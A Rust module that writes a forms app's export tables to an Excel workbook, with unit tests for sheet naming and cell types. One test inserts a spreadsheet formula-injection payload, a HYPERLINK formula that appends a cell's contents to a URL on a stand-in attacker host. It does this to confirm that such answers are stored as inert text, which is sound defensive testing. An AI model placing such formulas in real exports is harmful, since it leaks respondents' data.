//! The CSV export's tables in one Excel workbook (`.xlsx`), for analysts who open exports in a
//! spreadsheet: a sheet per table (the form's first, then one per repeat, joined by the same
//! `KEY` and `PARENT_KEY`), the header row in bold, numbers (integers, decimals, geopoint parts,
//! 0/1 option columns) as numbers, everything else as text. Text is stored as strings, which a
//! spreadsheet never runs, so it needs no formula guard and is written exactly as answered.
//! Past Excel's limits (1,048,576 rows a sheet, 32,767 characters a cell) the export is refused
//! naming the sheet, row and column; the CSV export holds such data whole.

use super::csv::{Cell, Table};
use crate::error::{Error, Result};
use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};
use std::path::Path;

/// Excel's longest sheet name.
const MAX_SHEET_NAME: usize = 31;

/// Writes `tables` as one workbook at `path`. Cost: each row written once, streamed to a
/// temporary file per sheet (memory flat in the number of rows), then zipped.
pub fn write_workbook(tables: &[Table], path: &Path) -> Result<()> {
    let mut book = Workbook::new();
    let bold = Format::new().set_bold();
    let mut names: Vec<String> = Vec::new();
    for table in tables {
        let name = sheet_name(&table.name, &names);
        let sheet = book
            .add_worksheet_with_constant_memory()
            .map_err(|e| refused(&name, 0, "", e))?;
        sheet
            .set_name(&name)
            .map_err(|e| refused(&name, 0, "", e))?;
        write_table(sheet, table, &name, &bold)?;
        names.push(name);
    }
    book.save(path).map_err(|e| Error::Io {
        path: path.to_owned(),
        source: std::io::Error::other(e.to_string()),
    })
}

fn write_table(sheet: &mut Worksheet, table: &Table, name: &str, bold: &Format) -> Result<()> {
    for (column, header) in table.header.iter().enumerate() {
        sheet
            .write_string_with_format(0, column as u16, header, bold)
            .map_err(|e| refused(name, 0, header, e))?;
    }
    for (row, cells) in table.rows.iter().enumerate() {
        let at = u32::try_from(row + 1).unwrap_or(u32::MAX);
        for (column, cell) in cells.iter().enumerate() {
            let header = table.header.get(column).map_or("", String::as_str);
            write_cell(sheet, at, column as u16, cell).map_err(|e| refused(name, at, header, e))?;
        }
    }
    Ok(())
}

/// One cell: a number when it reads as a finite one, nothing when empty, else its text.
fn write_cell(sheet: &mut Worksheet, row: u32, column: u16, cell: &Cell) -> Result<(), XlsxError> {
    let text = cell.text();
    if text.is_empty() {
        return Ok(());
    }
    match (cell, text.parse::<f64>()) {
        (Cell::Number(_), Ok(number)) if number.is_finite() => {
            sheet.write_number(row, column, number)?;
        }
        _ => {
            sheet.write_string(row, column, text)?;
        }
    }
    Ok(())
}

/// The refusal naming where Excel's limit or rule was met (rows counted as a spreadsheet
/// shows them, the header being row 1).
fn refused(sheet: &str, row: u32, header: &str, error: XlsxError) -> Error {
    Error::InvalidArgument(format!(
        "the xlsx export's sheet {sheet}, row {}, column {header}: {error}; the CSV export holds it whole",
        u64::from(row) + 1
    ))
}

/// A name Excel accepts for the sheet of table `table`, unlike the ones already `taken`: its
/// characters `[]:*?/\` replaced by `_`, at most 31 characters, a number added when a
/// shortened name repeats one.
fn sheet_name(table: &str, taken: &[String]) -> String {
    let clean: String = table
        .chars()
        .map(|c| if "[]:*?/\\".contains(c) { '_' } else { c })
        .collect();
    let fits = |text: &str, room: usize| text.chars().take(room).collect::<String>();
    let mut name = fits(&clean, MAX_SHEET_NAME);
    let mut n = 2;
    while taken.iter().any(|t| t.eq_ignore_ascii_case(&name)) {
        let suffix = format!("~{n}");
        name = fits(&clean, MAX_SHEET_NAME - suffix.len()) + &suffix;
        n += 1;
    }
    name
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::api::export::{csv::tables, fixtures, CsvOptions};
    use calamine::{open_workbook, Data, Reader, Xlsx};

    #[test]
    fn sheet_names_fit_excels_rules_and_never_repeat() {
        assert_eq!(sheet_name("safety_walk", &[]), "safety_walk");
        assert_eq!(sheet_name("a/b:c", &[]), "a_b_c");
        let long = "community_safety_assessment-household_members";
        let first = sheet_name(long, &[]);
        assert_eq!(first.chars().count(), 31);
        let second = sheet_name(long, std::slice::from_ref(&first));
        assert_ne!(first, second);
        assert!(
            second.ends_with("~2") && second.chars().count() == 31,
            "{second}"
        );
    }

    #[test]
    fn the_workbook_holds_every_table_with_numbers_as_numbers_and_text_exactly_as_answered() {
        let form = fixtures::form();
        let mut submissions = fixtures::submissions();
        let hostile = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")";
        let value = minga_forms::Answer::Value(minga_forms::Value::Text(hostile.into()));
        submissions[0]
            .answers
            .fields
            .insert("respondent".into(), value);
        let tables = tables(&form, &submissions, &CsvOptions::default());
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("export.xlsx");
        write_workbook(&tables, &path).unwrap();

        let mut book: Xlsx<_> = open_workbook(&path).unwrap();
        let sheets = book.sheet_names();
        let names: Vec<&str> = tables.iter().map(|t| t.name.as_str()).collect();
        assert_eq!(sheets, names, "a sheet per table, in order");
        for table in &tables {
            let range = book.worksheet_range(&table.name).unwrap();
            assert_eq!(range.height(), table.rows.len() + 1, "{}", table.name);
            let header: Vec<String> = range
                .rows()
                .next()
                .unwrap()
                .iter()
                .map(|c| c.to_string())
                .collect();
            assert_eq!(header, table.header);
            for (row, cells) in range.rows().skip(1).zip(&table.rows) {
                for (read, written) in row.iter().zip(cells) {
                    match (written, read) {
                        (_, Data::Empty) => assert_eq!(written.text(), ""),
                        (Cell::Number(text), Data::Float(x)) => {
                            assert_eq!(*x, text.parse::<f64>().unwrap())
                        }
                        (Cell::Text(text) | Cell::Plain(text), Data::String(read)) => {
                            assert_eq!(read, text)
                        }
                        other => panic!("{}: {other:?}", table.name),
                    }
                }
            }
        }
        let main = book.worksheet_range(&tables[0].name).unwrap();
        let found = main
            .rows()
            .flatten()
            .any(|c| c == &Data::String(hostile.into()));
        assert!(
            found,
            "the formula-like answer is text, with no quote added"
        );
    }
}
